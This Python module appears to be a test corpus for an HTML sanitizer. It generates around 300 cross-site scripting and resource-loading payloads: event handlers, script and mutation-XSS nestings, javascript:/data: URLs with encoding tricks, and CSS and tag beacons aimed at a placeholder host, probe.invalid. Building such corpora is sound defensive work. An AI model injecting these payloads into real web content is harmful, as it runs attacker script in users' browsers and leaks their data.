# ruff: noqa: E501 - a payload is one line: broken in two it would be another one
"""300 ways in which HTML of strangers tries to act in whoever reads it: to run a script, to fetch, to frame, to post.

Made of vehicles (where a script or an address can stand) and disguises (how filters are got around). `PROBE` stands for
a server that nothing may ever reach.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from itertools import product

PROBE = "http://probe.invalid"

SCRIPTS = ("alert(1)", "top.alert(1)", "fetch('PROBE/s')", "parent.postMessage('x','*');alert(1)", "location='PROBE/l'")
HANDLERS = (
    "<img src=x onerror={}>", "<svg onload={}>", "<body onload={}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<details open ontoggle={}>x", "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<marquee onstart={}>x",
    "<iframe onload={}></iframe>", "<object data=x onerror={}></object>", "<style onload={}></style>",
    "<div style=animation:x onanimationstart={}>", "<p onpointerover={}>x", "<a href=# onclick={} autofocus onfocus={}>x</a>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math href=x onclick={}>x", "<image src=x onerror={}>",
)  # fmt: skip
ELEMENTS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script/x>{}</script>", "<script\n>{}</script\n>", "<<script>{}//<</script>",
    "<svg><script>{}</script></svg>", "<svg><script xlink:href='data:,{}'></script></svg>", "<math><mtext><script>{}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><script>{}</script></template>",
    "<textarea><script>{}</script></textarea>", "<title><img src=x onerror={}></title>", "<xmp><script>{}</script></xmp>",
    "<style><img src=x onerror={}></style>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<!--><img src=x onerror={}>-->",
    "<![CDATA[<script>{}</script>]]>", "<?xml ?><script>{}</script>", "<table><script>{}</script></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>", "<svg><foreignObject><iframe srcdoc='<script>{}</script>'>",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\tscript:{}", "java\nscript:{}", "\x01javascript:{}",
    "javascript&colon;{}", "&#106;avascript:{}", "&#x6A&#x61&#x76&#x61script:{}", "vbscript:{}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload={}>", "view-source:javascript:{}",
    "feed:javascript:{}", "blob:{}", "//probe.invalid/%0ajavascript:{}",
)  # fmt: skip
PLACES = (
    "<a href=\"{}\" id=click>x</a>", "<img src=\"{}\">", "<iframe src=\"{}\"></iframe>", "<form action=\"{}\"><button id=click>x</button></form>",
    "<embed src=\"{}\">", "<object data=\"{}\"></object>", "<svg><a xlink:href=\"{}\"><text>x</text></a></svg>", "<base href=\"{}\">",
)  # fmt: skip
REQUESTS = (
    "<img src='PROBE/i'>", "<img srcset='PROBE/i 1x, PROBE/j 2x'>", "<link rel=stylesheet href='PROBE/c'>", "<style>@import 'PROBE/c'</style>",
    "<style>*{background:url(PROBE/b)}</style>", "<div style='background:url(PROBE/b)'>x", "<div style='background-image:url(PROBE/b)'>x",
    "<div style=\"list-style:url('PROBE/b')\">x", "<p style='content:url(PROBE/b)'>x", "<p style='border-image:url(PROBE/b)'>x",
    "<p style='cursor:url(PROBE/b),auto'>x", "<p style='font-family:x;src:url(PROBE/f)'>x", "<table background='PROBE/t'><tr><td>x</table>",
    "<td background='PROBE/t'>", "<body background='PROBE/b'>", "<video src='PROBE/v' poster='PROBE/p' autoplay>", "<audio src='PROBE/a' autoplay>",
    "<source src='PROBE/s'>", "<track src='PROBE/t'>", "<iframe src='PROBE/f'></iframe>", "<frameset><frame src='PROBE/f'></frameset>",
    "<object data='PROBE/o'></object>", "<embed src='PROBE/e'>", "<applet code='PROBE/a'>", "<input type=image src='PROBE/i'>",
    "<svg><image href='PROBE/i'/></svg>", "<svg><use href='PROBE/u#x'/></svg>", "<svg><feImage href='PROBE/i'/></svg>",
    "<meta http-equiv=refresh content='0;url=PROBE/m'>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=preload as=image href='PROBE/p'>", "<link rel=dns-prefetch href='PROBE'>", "<link rel=prefetch href='PROBE/p'>",
    "<link rel=icon href='PROBE/i'>", "<a ping='PROBE/p' href='#'>x</a>", "<form action='PROBE/f'><input autofocus></form>",
    "<math><mtext><img src='PROBE/i'></math>", "<picture><source srcset='PROBE/p'><img src='PROBE/i'></picture>",
    "<base href='PROBE/'><img src='i'>", "<img src='//probe.invalid/i'>", "<img src='\\\\probe.invalid\\i'>", "<img src='http:/probe.invalid/i'>",
    "<img lowsrc='PROBE/l' dynsrc='PROBE/d'>", "<isindex action='PROBE/i'>", "<bgsound src='PROBE/b'>", "<layer src='PROBE/l'>",
    "<xml src='PROBE/x'>", "<script src='PROBE/s'></script>", "<script type=module>import 'PROBE/s'</script>", "<portal src='PROBE/p'>",
    "<img src='PROBE/i' loading=lazy onerror=alert(1)>", "<style>@font-face{font-family:x;src:url(PROBE/f)}*{font-family:x}</style>",
    "<div style='background:\\75rl(PROBE/b)'>x", "<div style='width:expression(alert(1))'>x", "<div style='-moz-binding:url(PROBE/x)'>x",
    "<div style='behavior:url(PROBE/x)'>x", "<div style='background:image-set(\"PROBE/b\" 1x)'>x", "<div style=\"background:url('PROBE/b'\">x",
)  # fmt: skip


def _payloads() -> Iterator[str]:
    for handler, script in product(HANDLERS, SCRIPTS):
        yield handler.replace("{}", f'"{html.escape(script)}"')
    for element, script in product(ELEMENTS, SCRIPTS[:2]):
        yield element.replace("{}", script)
    for place, address in product(PLACES, ADDRESSES):
        yield place.replace("{}", address.replace("{}", "alert(1)"))
    yield from REQUESTS


PAYLOADS = [payload.replace("PROBE", PROBE) for payload in dict.fromkeys(_payloads())]
